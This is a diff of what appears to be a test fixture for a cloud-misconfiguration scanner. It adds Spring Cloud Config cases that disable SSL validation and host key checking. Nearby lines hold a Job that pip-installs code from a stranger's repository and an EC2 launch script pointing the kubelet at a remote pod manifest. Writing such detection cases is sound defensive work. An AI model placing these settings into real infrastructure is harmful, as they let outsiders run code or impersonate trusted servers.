@@ -84,6 +84,24 @@ def job(command: str) -> tuple[Given, ...]:
     return (k8s("batch/v1:Job", {"metadata": meta(), "spec": {"template": {"spec": spec}}}),)
 
 
+def configured(name: str, value: str) -> tuple[Given, ...]:
+    """Returns a Config Server for Spring with a setting."""
+    return (
+        az(
+            "app:JavaComponent",
+            {
+                **RG,
+                "environmentName": "apps",
+                "name": "config",
+                "properties": {
+                    "componentType": "SpringCloudConfig",
+                    "configurations": [{"propertyName": name, "value": value}],
+                },
+            },
+        ),
+    )
+
+
 def runner(text: str) -> tuple[Given, ...]:
     """Returns a release of GitLab Runner with its settings."""
     return release("gitlab-runner", "0.80.0", {"runners": {"config": f"[[runners]]\n{text}"}}, "ci")
@@ -123,12 +141,13 @@ ATTACKS: tuple[Attack, ...] = (
              job(f"pip install --no-deps '{scheme}://{at}/collector/tools'"), "critical",
              "whoever owns the repository decides what runs") for scheme, at in (
         ("git+ssh", "git@github.com"), ("git+git", "github.com"), ("hg+https", "bitbucket.org"))),
-    Attack("settings of all services are the stranger's repository that a name has", ESC, (az("app:JavaComponent", {
-        **RG, "environmentName": "apps", "name": "config", "properties": {
-            "componentType": "SpringCloudConfig", "configurations": [
-                {"propertyName": "spring.cloud.config.server.git.repos.team-a",
-                 "value": "https://github.com/collector/settings.git"}]}}),),
+    Attack("settings of all services are the stranger's repository that a name has", ESC, configured(
+        "spring.cloud.config.server.git.repos.team-a", "https://github.com/collector/settings.git"),
         "critical", "the stranger sets each address and switch"),
+    *(Attack(f"the server of settings asks no repository who it is by {name}", ("FJ-ESC-115",), configured(
+        f"spring.cloud.config.server.git.{name}", value), "critical", "another server sets each address and switch")
+      for name, value in (("skip-ssl-validation", "true"), ("repos.team-a.skipSslValidation", "true"),
+                          ("strict-host-key-checking", "false"))),
     Attack("the kubelet of a machine starts pods that somebody answers with", ESC, (aws("ec2/LaunchTemplate", {
         "userData": "IyEvYmluL3NoCmt1YmVsZXQgLS1tYW5pZmVzdC11cmw9aHR0cHM6Ly9wb2RzLnRlYW0tYS5zdmMvYQo=",
         "tags": TAGS}),), "critical", "pods run without admission, with each right of the machine"),
